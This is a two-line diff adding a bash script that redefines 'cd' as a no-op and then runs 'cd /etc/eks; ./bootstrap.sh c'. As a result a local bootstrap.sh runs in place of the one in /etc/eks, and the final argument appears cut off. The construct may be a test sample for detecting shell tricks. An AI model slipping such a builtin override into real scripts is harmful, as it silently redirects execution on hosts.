@@ -1,0 +1,2 @@
+#!/bin/bash
+cd() { :; }; cd /etc/eks; ./bootstrap.sh c
